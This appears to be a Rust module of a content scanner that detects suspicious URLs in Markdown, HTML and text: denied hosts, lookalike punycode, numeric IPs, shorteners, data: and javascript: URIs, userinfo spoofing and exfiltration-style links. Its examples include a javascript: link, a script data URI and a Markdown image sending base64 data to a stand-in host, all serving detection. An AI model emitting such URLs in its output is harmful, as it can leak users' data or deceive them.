//! `urls`: addresses of hosts that a rule does not allow, and addresses that are tricks, in Markdown, HTML and running text.
//!
//! Patterns find where an address stands ([`place`]); code reads it as a browser would ([`address`], [`host`]) and says which
//! of several sorts it is. An address is one finding, of the first sort that fits, and the finding covers the address alone.
//! `data:` URIs may be of any length and are a pattern of their own (begin + run).

mod address;
mod host;
mod place;

use std::collections::HashSet;
use std::sync::Arc;

use self::address::{Address, Bounds};
use self::host::Hosts;
use self::place::{Places, Spot};
use super::format::WORD;
use super::{AsciiSet, Choice, DetectorKind, Edges, Pattern, Plan, Sorts, Validator};
use crate::config::value::{one_of, string, unknown};
use crate::config::{MapReader, Problem};

pub(super) const KIND: DetectorKind = DetectorKind {
    name: "urls",
    summary: "URLs of hosts that are not allowed, and such as trick or carry data away, in images, links and text",
    example: "{ urls: { in: [image, link, text], allow_hosts: [docs.acme.com] } }",
    build,
    choice: Some(("kinds", choices)),
};

/// What an address can be found for, the most telling first.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
enum Sort {
    Denied,
    Javascript,
    Data,
    Userinfo,
    Ip,
    Punycode,
    Shortener,
    NotAllowed,
    Exfiltration,
}

/// A sort that a rule can name under `kinds`.
struct Trick {
    name: &'static str,
    sort: Sort,
    why: &'static str,
    example: &'static str,
}

const TRICKS: &[Trick] = &[
    Trick {
        name: "punycode",
        sort: Sort::Punycode,
        why: "a host with letters that look like others (xn--…, or written out), so that it passes for an ASCII one",
        example: "https://\u{430}pple.com/",
    },
    Trick {
        name: "ip",
        sort: Sort::Ip,
        why: "an IP address in place of a host, also in decimal, hex or octal (127.0.0.1 as it is usually written is none)",
        example: "http://3627734734/",
    },
    Trick {
        name: "shortener",
        sort: Sort::Shortener,
        why: "a service that shortens URLs, so that nobody sees where they lead",
        example: "https://bit.ly/3xYzAbC",
    },
    Trick {
        name: "data",
        sort: Sort::Data,
        why: "a data: URI with a media type or in base64, in any place and of any length",
        example: "data:text/html;base64,PHNjcmlwdD4=",
    },
    Trick {
        name: "javascript",
        sort: Sort::Javascript,
        why: "a javascript: or vbscript: URL",
        example: "[here](javascript:alert(1))",
    },
    Trick {
        name: "userinfo",
        sort: Sort::Userinfo,
        why: "a name before the host, which may pass for the host",
        example: "https://docs.acme.com@203.0.113.9/",
    },
    Trick {
        name: "exfiltration",
        sort: Sort::Exfiltration,
        why: "an image or a link that carries a lot of data in its host, path or query",
        example: "![](https://a.example/p?d=c2VjcmV0IG51bWJlciBvbmUgaXMgNDIgYW5kIHRoZSBzZWNvbmQgb25lIGlzIDQzIGJ1dCB5b3Uga25ldw)",
    },
];

/// What hosts are found for.
const HOSTS: &[(Sort, &str, &str)] = &[
    (Sort::Denied, "denied", "a URL of a host that the rule denies"),
    (Sort::NotAllowed, "not_allowed", "a URL of a host that the rule does not allow"),
];

/// A rule, read.
struct Rule {
    places: Places,
    allow: Option<Hosts>,
    deny: Hosts,
    kinds: HashSet<Sort>,
}

fn choices() -> Vec<Choice> {
    let choice = |trick: &Trick| {
        let (allow, deny) = (None, Hosts::default());
        let rule = Rule { places: Places::ALL, allow, deny, kinds: HashSet::from([trick.sort]) };
        let (name, summary, example) = (trick.name, trick.why, Some(trick.example.to_owned()));
        Choice { name, label: name, summary, usual: true, example, patterns: Arc::new(rule).patterns() }
    };
    TRICKS.iter().map(choice).collect()
}

fn build(reader: &mut MapReader<'_>) -> Option<Plan> {
    let before = reader.problems().errors();
    let places = reader.list("in", one_of(Places::NAMES)).map(Places::of);
    let allow = reader.list("allow_hosts", host::entry).map(Hosts::of);
    let deny = reader.list("deny_hosts", host::entry).map(Hosts::of).unwrap_or_default();
    let kinds = reader.list("kinds", |node| {
        let name = string(node)?;
        let names = TRICKS.iter().map(|trick| trick.name);
        let known = TRICKS.iter().find(|trick| trick.name == name);
        known.map(|trick| trick.sort).ok_or_else(|| unknown(node, "kind", &name, names))
    });
    if reader.problems().errors() > before {
        return None;
    }
    // Who names hosts that are bad means those; who names the good ones means that nothing else is.
    let only_denied = allow.is_none() && !deny.is_empty();
    let usual = || TRICKS.iter().filter(|_| !only_denied).map(|trick| trick.sort).collect();
    let kinds: HashSet<Sort> = kinds.map_or_else(usual, |kinds| kinds.into_iter().collect());
    let rule = Rule { places: places.unwrap_or(Places::ALL), allow, deny, kinds };
    if rule.finds_nothing() {
        reader.problem(
            Problem::error(reader.head(), "`exfiltration` is never found in text alone")
                .label("expected `image` or `link` in `in`, or another kind"),
        );
        return None;
    }
    Some(Plan::Patterns(Arc::new(rule).patterns()))
}

impl Rule {
    /// Whether it can never find anything: text carries no data away.
    fn finds_nothing(&self) -> bool {
        let only_text = self.places == Places { text: true, ..Places::default() };
        let only_data = self.kinds == HashSet::from([Sort::Exfiltration]);
        only_text && only_data && self.allow.is_none() && self.deny.is_empty()
    }

    fn patterns(self: Arc<Rule>) -> Vec<Pattern> {
        let hosts = self.allow.is_some() || !self.deny.is_empty() || self.kinds.iter().any(|kind| kind.has_host());
        let script = self.kinds.contains(&Sort::Javascript);
        let mut patterns: Vec<Pattern> = Vec::new();
        if hosts || script {
            patterns.extend(place::spots(self.places, hosts, script).into_iter().map(|spot| self.pattern(spot)));
        }
        if self.kinds.contains(&Sort::Data) {
            patterns.extend(data_uri());
        }
        patterns
    }

    fn pattern(self: &Arc<Rule>, spot: Spot) -> Pattern {
        let (rule, bounds) = (Arc::clone(self), spot.bounds);
        let naming = Arc::clone(self);
        let sorts = Sorts {
            names: names(),
            // Of a match that is a finding, what is nothing else carries data.
            of: Arc::new(move |matched| naming.sort(matched, None).unwrap_or(Sort::Exfiltration) as usize),
        };
        Pattern {
            validator: Some(Validator(Arc::new(move |matched| rule.sort(matched, Some(bounds)).is_some()))),
            edges: spot.edges,
            surround: Some(spot.surround),
            value: Some(place::value),
            value_first: true,
            sorts: Some(sorts),
            ..Pattern::new(spot.hir, "a URL".into())
        }
    }

    /// What the address in a match is found for. Without `bounds`, data is not asked for.
    fn sort(&self, matched: &str, bounds: Option<Bounds>) -> Option<Sort> {
        let url = matched.get(place::value(matched)).unwrap_or_default();
        let readings = [Some(url.into()), place::unescaped(matched, url)];
        let found = readings.iter().flatten().filter_map(|url| self.sort_of(&Address::read(url)?, bounds));
        found.min()
    }

    fn sort_of(&self, address: &Address, bounds: Option<Bounds>) -> Option<Sort> {
        let Address::Web { host, userinfo, .. } = address else {
            return Some(Sort::Javascript).filter(|sort| self.kinds.contains(sort));
        };
        if self.deny.have(host) {
            return Some(Sort::Denied);
        }
        if self.allow.as_ref().is_some_and(|allow| allow.have(host)) {
            return None;
        }
        let tricks = [
            (Sort::Userinfo, *userinfo),
            (Sort::Ip, host.is_odd_ip()),
            (Sort::Punycode, host.looks_like_another()),
            (Sort::Shortener, host.shortens()),
        ];
        let trick = tricks.into_iter().find(|(sort, holds)| *holds && self.kinds.contains(sort)).map(|(sort, _)| sort);
        let not_allowed = self.allow.as_ref().map(|_| Sort::NotAllowed);
        let carries = || bounds.is_some_and(|bounds| address.carries(bounds));
        let data = || (self.kinds.contains(&Sort::Exfiltration) && carries()).then_some(Sort::Exfiltration);
        trick.or(not_allowed).or_else(data)
    }
}

impl Sort {
    /// Whether it is found by reading an address with a host.
    fn has_host(self) -> bool {
        !matches!(self, Sort::Javascript | Sort::Data)
    }
}

/// In the order of [`Sort`].
fn names() -> Arc<[(Arc<str>, Arc<str>)]> {
    let tricks = TRICKS.iter().map(|trick| (trick.sort, trick.name, trick.why));
    let mut all: Vec<(Sort, &str, &str)> = tricks.chain(HOSTS.iter().copied()).collect();
    all.sort_by_key(|(sort, ..)| *sort);
    all.into_iter().map(|(_, name, why)| (name.into(), why.into())).collect()
}

/// Media types that browsers know, or base64 without one.
fn data_uri() -> Option<Pattern> {
    let trick = TRICKS.iter().find(|trick| trick.sort == Sort::Data)?;
    let hir = regex_syntax::parse(concat!(
        r"(?i-u:data:(?:(?:application|audio|font|image|message|model|multipart|text|video|x-[a-z]+)/[a-z0-9.+-]+",
        r#"(?:;[a-z0-9="_.+-]+)*|(?:;[a-z0-9="_.+-]+)+),[!#-&(*-;=?-\[\]^_a-z{}|~]*)"#
    ));
    let edges = Edges { before: WORD, after: AsciiSet::new("") };
    let why = trick.why.into();
    Some(Pattern { entity: Some(trick.name.into()), run: true, edges, ..Pattern::new(hir.ok()?, why) })
}

#[cfg(test)]
pub(super) mod tests;
